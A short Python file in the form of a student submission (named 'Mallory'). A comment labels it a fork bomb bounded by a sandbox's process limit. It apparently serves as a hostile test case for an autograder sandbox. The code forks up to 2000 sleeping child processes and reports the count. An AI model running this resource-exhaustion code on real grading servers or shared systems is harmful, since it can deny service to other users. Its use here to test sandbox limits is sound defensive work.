# %% identity
# Attack: a fork bomb (bounded here by the sandbox's process limit).
STUDENT_NAME = "Mallory"
STUDENT_EMAIL = "mallory@example.org"
import os
import time

children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError:
    pass
print("FORKED:", children)
